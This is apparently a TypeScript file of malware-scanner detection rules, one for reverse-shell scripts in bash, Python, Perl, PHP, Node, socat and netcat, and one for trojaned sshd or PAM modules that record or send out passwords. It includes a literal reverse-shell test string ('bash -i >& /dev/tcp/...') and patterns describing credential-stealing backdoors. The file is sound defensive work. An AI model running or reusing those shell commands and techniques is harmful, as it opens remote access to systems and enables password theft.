import type { ContentRule } from './rule.ts'

/** Scripts and programs that give somebody elsewhere a shell. */
export const SHELLS: readonly ContentRule[] = [
  {
    number: 68,
    name: 'Script.Backdoor.ReverseShell',
    title: ['Script that gives somebody elsewhere a shell', '将 shell 交给远端的脚本'],
    kind: 'backdoor',
    in: ['script'],
    severity: 'high',
    when: {
      any: [
        {
          pattern: /(?:bash|sh|zsh)\s+-i\s{0,4}(?:[0-9]?>&|&>|<>)\s{0,4}\/dev\/(?:tcp|udp)\//,
          near: ['/dev/tcp/', '/dev/udp/'],
        },
        {
          pattern: /exec\s+\d{1,3}<>\s{0,4}\/dev\/(?:tcp|udp)\/[^\n]{1,100}[\n;][^\n]{0,200}(?:while|sh|cat\s*<&|bash)/,
          near: ['/dev/tcp/', '/dev/udp/'],
        },
        {
          pattern:
            /mkfifo\s+\S{1,100}[^\n]{0,40}(?:;|&&)[^\n]{0,120}(?:\/bin\/(?:ba|da)?sh|\bsh)\s+-i[^\n]{0,80}\|\s{0,4}(?:nc|ncat|openssl|telnet|socat)\b/,
          near: ['mkfifo'],
        },
        {
          pattern:
            /\b(?:nc|ncat|netcat)(?:\.\w+)?\s[^\n|]{0,100}(?:-e|-c|--exec|--sh-exec)\s{0,4}["']?\/?(?:bin\/)?(?:ba|da|z)?sh\b/,
          near: ['nc -', 'ncat ', 'netcat ', 'nc.traditional', '/bin/sh', '/bin/bash'],
        },
        {
          all: [
            'socket.socket',
            { any: ['os.dup2', 'dup2('] },
            { any: ['pty.spawn', '/bin/sh', '/bin/bash', 'subprocess.call'] },
          ],
        },
        {
          all: [
            {
              pattern: /\.connect\(\s{0,4}\([^\n]{1,80}\)\s{0,4}\)[^]{0,800}\.recv\(/,
              near: ['subprocess', 'os.popen', 'os.system'],
            },
            {
              pattern: /\.recv\([^]{0,600}(?:subprocess\.\w{1,20}|os\.popen|os\.system|Popen)\s{0,2}\(/,
              near: ['subprocess', 'os.popen', 'os.system'],
            },
            {
              pattern: /(?:subprocess\.\w{1,20}|os\.popen|os\.system|Popen)\s{0,2}\([^]{0,500}\.send(?:all)?\(/,
              near: ['subprocess', 'os.popen', 'os.system'],
            },
          ],
        },
        {
          all: [
            'IO::Socket::INET',
            { any: ['open(STDIN', 'STDIN->fdopen'] },
            { any: ['/bin/sh', 'exec {', 'exec("/bin'] },
          ],
        },
        { all: ['fsockopen', { any: ['/bin/sh -i', '/bin/bash -i', 'uname -a; w; id'] }] },
        {
          all: [
            { any: ['net.Socket', 'net.connect', 'require("net")', "require('net')"] },
            'child_process',
            '.pipe(',
            {
              pattern:
                /\b(?:spawn|exec\w{0,8})\(\s{0,4}['"](?:(?:\/usr)?\/bin\/(?:ba|z|da)?sh|sh|bash|cmd(?:\.exe)?|powershell)['"]/,
              near: ["/sh'", '/sh"', "sh'", 'sh"', 'cmd', 'powershell'],
            },
          ],
        },
        { all: ['redirectErrorStream(true).start()', 'new Socket('] },
        { all: ['TCPSocket', { any: ['exec sprintf', '/bin/sh -i', 'IO.popen'] }] },
        {
          all: [
            { pattern: /while\b[^]{0,200}\b(?:curl|wget)\b/, near: ['curl', 'wget'] },
            { pattern: /\b(?:curl|wget)\b[^]{0,200}\b(?:eval|bash -c|sh -c)\b/, near: ['curl', 'wget'] },
            {
              pattern: /\b(?:eval|bash -c|sh -c)\b[^]{0,120}\b(?:curl|wget)\b[^\n]{0,80}(?:--data|-d\s|-F\s|--post)/,
              near: ['curl', 'wget'],
            },
          ],
        },
        {
          pattern:
            /(?:\beval|\bvm\.run\w{1,20}|\bnew Function|\bexec(?:Sync)?)\s{0,2}\([^\n;]{0,80}\breq(?:uest)?\.(?:headers|query|body|cookies|params)\b/,
          near: ['vm.runIn', 'req.headers', 'request.headers', 'req.cookies', 'req.query', 'req.body', 'req.params'],
        },
        {
          pattern:
            /(?:getoutput|check_output|popen|os\.system|subprocess\.\w{1,20})\s{0,2}\([^\n]{0,40}\b(?:m|msg|message|update|ctx|event)\.(?:message\.)?(?:text|content|clean_content)\b/i,
          near: ['telebot', 'telegram', 'discord', 'message.text', 'message.content'],
        },
        { pattern: /socat\s[^\n]{0,120}exec:["']?(?:\/bin\/)?(?:ba)?sh/i, near: ['socat '] },
      ],
    },
    attack: ['T1059.004', 'T1095'],
    references: [
      'https://attack.mitre.org/techniques/T1059/004/',
      'https://swisskyrepo.github.io/InternalAllTheThings/cheatsheets/shell-reverse-cheatsheet/',
    ],
    match: ['#!/bin/bash', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'],
    harmless: ['#!/bin/bash', '(echo > /dev/tcp/db/5432) 2>/dev/null && echo up', 'nc -z db 5432'],
  },
  {
    number: 69,
    name: 'Linux.Backdoor.SshdTrojan',
    title: ['sshd or PAM module that keeps passwords or has one of its own', '记录口令或带有后门口令的 sshd、PAM 模块'],
    kind: 'backdoor',
    in: ['program', 'script'],
    when: {
      any: [
        {
          all: [
            'pam_sm_authenticate',
            { any: ['/tmp/.', '/var/tmp/.', '/dev/shm/', '/usr/share/.', '/var/log/.', '/root/.'] },
            { any: ['user=%s', 'pass=%s', 'password: %s', 'Username %s', 'a+'] },
          ],
        },
        {
          all: [
            'pam_sm_authenticate',
            'getaddrinfo',
            { any: ['%s:%s', '%s %s %s', 'pass=%s'] },
            { any: ['sendto', 'socket', 'gethostbyname'] },
            { any: ['POST /', 'GET /', 'api.telegram.org', '.onion'] },
          ],
        },
        { all: ['_unix_verify_password', 'PAM_SUCCESS', { any: ['sed -i', 'patch -p', 'strcmp(p'] }] },
        {
          all: [
            'SSH-2.0-',
            'sshd_config',
            {
              any: [
                'user:password@host',
                '-> %s:%s',
                'user: %s, pass',
                'login from: %s (%s:%s)',
                '+user: %s +password: %s',
              ],
            },
          ],
        },
      ],
    },
    attack: ['T1556.003', 'T1554'],
    references: [
      'https://www.welivesecurity.com/2018/12/05/dark-side-of-the-forsshe/',
      'https://attack.mitre.org/techniques/T1556/003/',
    ],
    match: ['pam_sm_authenticate', 'pam_get_user', '/var/tmp/.log', '%s:%s', 'a+'],
    harmless: ['pam_sm_authenticate', 'pam_get_user', '/etc/security/opasswd', '%s:%s'],
  },
]
